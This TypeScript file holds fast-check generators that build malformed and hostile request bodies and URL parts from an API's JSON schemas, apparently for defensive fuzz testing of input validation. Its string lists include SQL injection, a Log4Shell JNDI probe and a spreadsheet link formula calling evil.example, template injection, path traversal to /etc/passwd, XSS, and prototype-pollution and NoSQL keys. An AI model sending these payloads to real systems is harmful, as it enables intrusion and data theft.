// fast-check generators for hostile request bodies, driven by the JSON schemas of /api/openapi.json.
import fc from "fast-check";
import type { JsonSchema } from "./support";

/** A JSON token written as is (numbers JSON.stringify cannot produce: 1e400, -0, 2^53 + 1...). */
export class RawJson {
  constructor(readonly text: string) {}
}

/** JSON text for a value that may contain RawJson tokens. */
export function toJsonText(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value)) return `[${value.map(toJsonText).join(",")}]`;
  if (value && typeof value === "object") {
    return `{${Object.entries(value)
      .map(([k, v]) => `${JSON.stringify(k)}:${toJsonText(v)}`)
      .join(",")}}`;
  }
  return JSON.stringify(value) ?? "null";
}

/** Strings that break naive code: direction overrides, invisible characters, emoji, lone surrogates, NUL. */
export const NASTY_STRINGS = [
  "\u202Eevil\u202C",
  "\u200F\u0627\u0644\u0639\u0631\u0628\u064A\u0629\u200E",
  "a\u200Bb\u200Cc\u200Dd\u2060e\uFEFF",
  "👨‍👩‍👧‍👦🎉🇻🇪👍🏽",
  "\uD800",
  "\uDFFF",
  "a\uD83Db",
  "\u0000",
  "a\u0000b",
  "e\u0301\u0301\u0301\u0301\u0301",
  "\u0085\u2028\u2029",
  "\r\n\t\u000B\f",
  "%00%0d%0a",
  "' OR 1=1 --",
  '"; DROP TABLE users; --',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}<%= 7*7 %>",
  "../../etc/passwd",
  "<script>alert(1)</script>",
  '=HYPERLINK("http://evil.example","x")',
  "\uFFFE\uFFFF\u{10FFFF}",
];

/** Any string, biased towards the nasty ones; never empty. */
export const nastyString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...NASTY_STRINGS),
  fc.string({ unit: "binary", minLength: 1, maxLength: 40 }),
  fc
    .tuple(fc.constantFrom(...NASTY_STRINGS), fc.string({ unit: "grapheme", maxLength: 20 }))
    .map(([a, b]) => `${a}${b}`),
);

/** Numbers at the edges, as raw JSON. */
export const edgeNumber: fc.Arbitrary<RawJson> = fc
  .constantFrom(
    "1e400",
    "-1e400",
    "-0",
    "1e-400",
    "9007199254740993",
    "-9007199254740993",
    "123456789012345678901234567890",
    "-2147483649",
    "0.1e1",
    "1E+2",
    "-1",
    "0",
    "3.5",
  )
  .map((text) => new RawJson(text));

/** About 100 KB of text with no whitespace (so no trim or collapse can make it short again). */
export const hugeString: fc.Arbitrary<string> = fc
  .constantFrom("x", "ñ", "👍", "\u200B", "\u202E", "a\u0301")
  .map((unit) => unit.repeat(Math.ceil(100_000 / unit.length)));

const MISSING = Symbol("missing");

type TypeName = "string" | "number" | "boolean" | "object" | "array" | "null";

/** The JSON types a schema accepts, or null when it accepts anything. */
function acceptedTypes(schema: JsonSchema): Set<TypeName> | null {
  const out = new Set<TypeName>();
  const add = (s: JsonSchema): boolean => {
    if (s.anyOf) return s.anyOf.every(add);
    const types = Array.isArray(s.type) ? s.type : s.type ? [s.type] : [];
    if (types.length === 0) return false;
    for (const type of types) out.add(type === "integer" ? "number" : (type as TypeName));
    if (s.nullable) out.add("null");
    return true;
  };
  if (!add(schema)) return null;
  if (schema.nullable) out.add("null");
  return out;
}

/** Values the schema refuses, each one certain to be refused (or MISSING for a required property). */
function refusedValues(schema: JsonSchema, required: boolean): Array<fc.Arbitrary<unknown>> {
  const out: Array<fc.Arbitrary<unknown>> = [];
  if (required) out.push(fc.constant(MISSING));
  const types = acceptedTypes(schema);
  if (!types) return out;
  if (!types.has("string")) out.push(nastyString, hugeString);
  if (!types.has("number")) out.push(edgeNumber);
  if (!types.has("boolean")) out.push(fc.boolean());
  if (!types.has("object"))
    out.push(fc.constant({}), fc.dictionary(nastyString, nastyString, { maxKeys: 3 }));
  if (!types.has("array")) out.push(fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }));
  // null only where the field is required: optional fields often read null as "not sent" (preprocess),
  // which the published schema does not show.
  if (!types.has("null") && required) out.push(fc.constant(null));
  if (schema.type === "string") {
    if (schema.maxLength !== undefined && schema.maxLength < 100_000) out.push(hugeString);
    if (schema.pattern) {
      const pattern = new RegExp(schema.pattern, "u");
      // Off-pattern even after the trim some schemas apply first.
      const off = (value: string) => !pattern.test(value) && !pattern.test(value.trim());
      out.push(nastyString.filter(off), hugeString.filter(off));
    }
    if (schema.minLength !== undefined && schema.minLength > 1) {
      out.push(fc.string({ unit: "grapheme-ascii", minLength: 1, maxLength: schema.minLength - 1 }));
    }
    if (schema.enum) {
      const allowed = new Set(schema.enum);
      out.push(nastyString.filter((value) => !allowed.has(value)));
    }
  }
  if (schema.type === "number" || schema.type === "integer") {
    out.push(fc.constantFrom(new RawJson("1e400"), new RawJson("-1e400")));
    if (typeof schema.minimum === "number") {
      const limit = schema.minimum;
      out.push(fc.constant(new RawJson(String(schema.exclusiveMinimum === true ? limit : limit - 1))));
      out.push(fc.constant(new RawJson(String(limit - 1e9))));
    }
    if (typeof schema.maximum === "number")
      out.push(fc.constant(new RawJson(String(schema.maximum * 10 + 1))));
    if (schema.type === "integer") out.push(fc.constant(new RawJson("1.5")));
  }
  return out;
}

/** Every (path, schema, required) of an object schema, one level of nesting deep. */
function fieldsOf(
  schema: JsonSchema,
  base: unknown,
): Array<{ path: string[]; schema: JsonSchema; required: boolean }> {
  const out: Array<{ path: string[]; schema: JsonSchema; required: boolean }> = [];
  const walk = (s: JsonSchema, value: unknown, prefix: string[], depth: number) => {
    for (const [name, child] of Object.entries(s.properties ?? {})) {
      const required = s.required?.includes(name) ?? false;
      out.push({ path: [...prefix, name], schema: child, required });
      const childValue = (value as Record<string, unknown> | undefined)?.[name];
      if (depth < 1 && childValue && typeof childValue === "object" && !Array.isArray(childValue)) {
        walk(child, childValue, [...prefix, name], depth + 1);
      }
    }
  };
  walk(schema, base, [], 0);
  return out;
}

/** A copy of `target` with `value` at `path` (copied along the path only, so RawJson tokens survive). */
function setPath(target: Record<string, unknown>, path: string[], value: unknown): Record<string, unknown> {
  const [head, ...rest] = path as [string, ...string[]];
  const copy = { ...target };
  if (rest.length === 0) {
    if (value === MISSING) delete copy[head];
    else copy[head] = value;
    return copy;
  }
  const child = copy[head];
  copy[head] = setPath(
    child && typeof child === "object" ? (child as Record<string, unknown>) : {},
    rest,
    value,
  );
  return copy;
}

/** Keys that have hurt JavaScript servers before, plus random ones. */
const extraKey = fc.oneof(
  fc.constantFrom(
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "$where",
    "$gt",
    "role",
    "isAdmin",
  ),
  nastyString,
  hugeString.map((s) => s.slice(0, 20_000)),
);

export interface HostileBody {
  kind: string;
  /** Exact request body text, sent as application/json. */
  text: string;
}

/**
 * Request bodies the operation must refuse: broken JSON, a top-level value of the wrong type, or a valid
 * body with one field made certainly invalid (wrong type, missing, too long, off-pattern, out of range),
 * with extra properties and nasty text sprinkled over the rest.
 */
export function hostileBody(
  schema: JsonSchema,
  validBase: Record<string, unknown>,
): fc.Arbitrary<HostileBody> {
  const malformed = fc
    .oneof(
      fc.constantFrom(
        "",
        "{",
        '{"a":',
        '{"a":1,}',
        "{'a':1}",
        "[1,2",
        "NaN",
        '{"a":NaN}',
        '{"a":Infinity}',
        '{"a":-Infinity}',
        "undefined",
        '{"a":undefined}',
        "\u0000",
        '{"a":1}}',
        '{"a" 1}',
        "\uFEFF{",
        '{"a":"\\x41"}',
        '{"a":"\\u12"}',
        '"sin cerrar',
        '{"__proto__":',
        "tru",
        "{}basura",
        '{"a":"\u0001\u001f"}',
        `${"[".repeat(5000)}${"]".repeat(4999)}`,
      ),
      fc.string({ unit: "binary", maxLength: 60 }).map((s) => `{${s}`),
    )
    .filter((text) => {
      try {
        JSON.parse(text);
        return false;
      } catch {
        return true;
      }
    })
    .map((text) => ({ kind: "JSON roto", text }));

  const topLevel = fc
    .oneof(
      fc.constantFrom("[]", '"texto"', "42", "true", "false", "-1e400"),
      fc.constant(`[${toJsonText(validBase)}]`),
      fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 4 }).map((a) => JSON.stringify(a)),
      ...(acceptedTypes(schema)?.has("null") ? [] : [fc.constant("null")]),
    )
    .map((text) => ({ kind: "no es un objeto", text }));

  const fields = fieldsOf(schema, validBase).filter((f) => refusedValues(f.schema, f.required).length > 0);
  const fieldBroken =
    fields.length === 0
      ? topLevel
      : fc
          .constantFrom(...fields)
          .chain((field) =>
            fc.record({
              field: fc.constant(field),
              value: fc.oneof(...refusedValues(field.schema, field.required)),
              extras: fc.dictionary(
                extraKey,
                fc.oneof(nastyString, edgeNumber, fc.jsonValue({ maxDepth: 2 })),
                {
                  maxKeys: 3,
                },
              ),
            }),
          )
          .map(({ field, value, extras }) => {
            // Extras first: a stray key never overwrites the field that makes the body invalid.
            const withExtras = { ...extras, ...validBase };
            const body = setPath(withExtras, field.path, value);
            return { kind: `campo ${field.path.join(".")} inválido`, text: toJsonText(body) };
          });

  return fc.oneof(
    { arbitrary: malformed, weight: 2 },
    { arbitrary: topLevel, weight: 1 },
    { arbitrary: fieldBroken, weight: 5 },
  );
}

/** Every path to a string leaf of a body. */
function stringPaths(value: unknown, prefix: string[] = []): string[][] {
  if (typeof value === "string") return [prefix];
  if (Array.isArray(value)) return value.flatMap((item, i) => stringPaths(item, [...prefix, String(i)]));
  if (value && typeof value === "object") {
    return Object.entries(value).flatMap(([k, v]) => stringPaths(v, [...prefix, k]));
  }
  return [];
}

export interface NastyEdit {
  path: string[];
  text: string;
}

/** One string leaf of a valid body (of this shape) to fill with something nasty. */
export function nastyEdit(shape: Record<string, unknown>): fc.Arbitrary<NastyEdit | null> {
  const paths = stringPaths(shape);
  if (paths.length === 0) return fc.constant(null);
  return fc.record({ path: fc.constantFrom(...paths), text: nastyString });
}

/** The body with the edit applied: text appended to the field (e-mails keep their shape: text@...). */
export function applyNastyEdit(body: Record<string, unknown>, edit: NastyEdit | null): unknown {
  if (!edit) return body;
  const copy = structuredClone(body);
  let node = copy as Record<string, unknown>;
  for (const key of edit.path.slice(0, -1)) node = node[key] as Record<string, unknown>;
  const last = edit.path[edit.path.length - 1] as string;
  const original = String(node[last]);
  node[last] = original.includes("@")
    ? `${edit.text.replace(/[@\s]/g, "")}x${original}`
    : `${original} ${edit.text}`;
  return copy;
}

/** Percent-encoded text, tolerating lone surrogates (sent as the invalid UTF-8 a hostile client would). */
function encodeLoose(text: string): string {
  return text
    .split(/([\uD800-\uDFFF])/)
    .map((piece) => {
      try {
        return encodeURIComponent(piece);
      } catch {
        return "%ED%A0%80";
      }
    })
    .join("");
}

/** A hostile value for a query parameter or a path segment, already in URL form. */
export const hostileUrlComponent: fc.Arbitrary<string> = fc.oneof(
  nastyString.map(encodeLoose),
  hugeString.map((s) => encodeLoose(s.slice(0, 4000))),
  edgeNumber.map((n) => encodeURIComponent(n.text)),
  // Broken percent-encoding and raw characters no encoder would produce.
  fc.constantFrom(
    "%",
    "%zz",
    "%ED%A0%80",
    "%C0%AF",
    "%00",
    "%2e%2e%2f%2e%2e%2f",
    "..%2F..%2F",
    "a%E2%80",
    "[]",
    "{}",
  ),
);
